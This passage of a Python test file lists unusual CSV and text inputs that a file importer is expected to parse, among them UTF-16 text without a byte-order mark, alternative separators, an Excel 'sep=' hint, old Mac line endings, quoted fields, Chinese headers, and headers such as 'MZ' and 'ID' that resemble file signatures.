        _odd_text("UTF-16 without mark", "name,tel\n".encode("utf-16-le"), [["name", "tel"]]),
        _odd_text("tabs", lines.replace(",", "\t")),
        _odd_text("semicolons", lines.replace(",", ";")),
        _odd_text("bars", lines.replace(",", "|")),
        _odd_text("hint of Excel", "sep=;\r\n" + lines.replace(",", ";")),
        _odd_text("line ends of an old Macintosh", lines.replace("\r\n", "\r")),
        _odd_text("mark of DOS at the end", lines + "\x1a"),
        _odd_text("blank lines", lines.replace("\r\n", "\r\n\r\n")),
        _odd_text("trailing commas", lines.replace("\r\n", ",,,\r\n")),
        _odd_text("quotes inside", 'a,b\n"x ""y"", z",1\n', [["a", "b"], ['x "y", z', "1"]]),
        _odd_text("line break in a field", 'a,b\n"x\ny",1\n', [["a", "b"], ["x\ny", "1"]]),
        _odd_text("one column", "客户名称\n甲公司\n", [["客户名称"], ["甲公司"]]),
        _odd_text("no line end", lines.rstrip()),
        _odd_text("text file", lines, filename="客户.txt"),
        _odd_text("tab file", lines.replace(",", "\t"), filename="客户.TSV"),
        _odd_text("heading MZ", "MZ,b\n1,2\n", [["MZ", "b"], ["1", "2"]]),
        _odd_text("heading ID", "ID,b\n1,2\n", [["ID", "b"], ["1", "2"]]),
    ]


def odd() -> list[Case]:
    """Return every strange file that must be read, with its rows."""
    return [*_odd_books(), *_odd_texts()]
